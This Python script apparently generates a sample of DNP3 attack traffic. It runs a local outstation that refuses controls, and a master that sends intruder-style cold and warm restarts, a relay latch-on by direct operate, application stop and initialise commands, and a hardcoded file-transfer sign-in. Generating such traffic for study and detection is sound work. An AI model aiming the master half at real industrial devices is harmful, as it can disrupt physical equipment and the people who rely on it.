"""opendnp3 (yadnp3's Python bindings) as both ends of a DNP3 link, for the DNP3 attack sample.

  dnp3_attack.py outstation ADDRESS   an outstation (link address 10) on ADDRESS:20000, with
                                      a few points of each kind, that accepts cold and warm
                                      restarts and refuses controls; runs until killed.
  dnp3_attack.py master ADDRESS       a master (link address 1) that connects to ADDRESS:20000,
                                      reads every point (an integrity poll), then, as an
                                      intruder would: a cold restart, a warm restart, a relay
                                      latched on by direct operate, the application stopped,
                                      the application initialised, and a sign-in for file
                                      transfer with a user name and password; printing each
                                      answer.
"""

import sys
import threading
import time

import opendnp3 as dnp3

PORT = 20000
MASTER_ADDRESS = 1
OUTSTATION_ADDRESS = 10


class Outstation(dnp3.IOutstationApplication):
    """Accepts restarts: the outstation answers each with the time to wait (ms)."""

    def ColdRestartSupport(self):
        return dnp3.RestartMode.SUPPORTED_DELAY_FINE

    def WarmRestartSupport(self):
        return dnp3.RestartMode.SUPPORTED_DELAY_FINE

    def ColdRestart(self):
        print("outstation: cold restart asked", flush=True)
        return 5000

    def WarmRestart(self):
        print("outstation: warm restart asked", flush=True)
        return 1000


class Commands(dnp3.ICommandHandler):
    """Refuses every control: the sample is about what is asked, not what is done."""

    def Begin(self):
        pass

    def End(self):
        pass

    def Select(self, command, index):
        return dnp3.CommandStatus.NOT_SUPPORTED

    def Operate(self, command, index, handler, op_type):
        return dnp3.CommandStatus.NOT_SUPPORTED


class Readings(dnp3.ISOEHandler):
    def BeginFragment(self, info):
        pass

    def EndFragment(self, info):
        pass


class Master(dnp3.IMasterApplication):
    pass


def outstation(address):
    manager = dnp3.DNP3Manager(1)
    channel = manager.AddTCPServer(
        "server", dnp3.LogLevels.none(), dnp3.ServerAcceptMode.CloseExisting, dnp3.IPEndpoint(address, PORT), dnp3.IChannelListener()
    )
    config = dnp3.OutstationStackConfig(dnp3.DatabaseConfig(5))
    config.link.LocalAddr = OUTSTATION_ADDRESS
    config.link.RemoteAddr = MASTER_ADDRESS
    session = channel.AddOutstation("outstation", Commands(), Outstation(), config)
    session.Enable()
    print(f"outstation: listening on {address}:{PORT}", flush=True)
    while True:
        time.sleep(1)


def master(address):
    manager = dnp3.DNP3Manager(1)
    channel = manager.AddTCPClient(
        "client", dnp3.LogLevels.none(), dnp3.ChannelRetry.Default(), [dnp3.IPEndpoint(address, PORT)], "0.0.0.0", dnp3.IChannelListener()
    )
    config = dnp3.MasterStackConfig()
    config.link.LocalAddr = MASTER_ADDRESS
    config.link.RemoteAddr = OUTSTATION_ADDRESS
    session = channel.AddMaster("master", Readings(), Master(), config)
    session.Enable()
    time.sleep(2)  # the startup integrity poll

    def ask(what, start):
        """Starts a task with a callback and waits for its answer."""
        done = threading.Event()

        def report(result):
            print(f"master: {what}: {getattr(result, 'summary', result)}", flush=True)
            done.set()

        start(report)
        if not done.wait(10):
            sys.exit(f"master: no answer to {what}")
        time.sleep(1)

    ask("cold restart", lambda report: session.Restart(dnp3.RestartType.COLD, report))
    ask("warm restart", lambda report: session.Restart(dnp3.RestartType.WARM, report))
    ask(
        "direct operate, relay 0 latched on",
        lambda report: session.DirectOperate(dnp3.ControlRelayOutputBlock(dnp3.OperationType.LATCH_ON), 0, report),
    )
    # Functions without a callback of their own: the request goes out, the answer is logged.
    for name, code in (("stop application", dnp3.FunctionCode.STOP_APPLICATION), ("initialize application", dnp3.FunctionCode.INITIALIZE_APPLICATION)):
        session.PerformFunction(name, code, [])
        print(f"master: {name} sent", flush=True)
        time.sleep(1)
    ask("file transfer sign-in", lambda report: session.AuthenticateFile("operator", "substation-7", report))
    session.Disable()
    manager.Shutdown()


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("outstation", "master"):
        sys.exit(__doc__)
    (outstation if sys.argv[1] == "outstation" else master)(sys.argv[2])
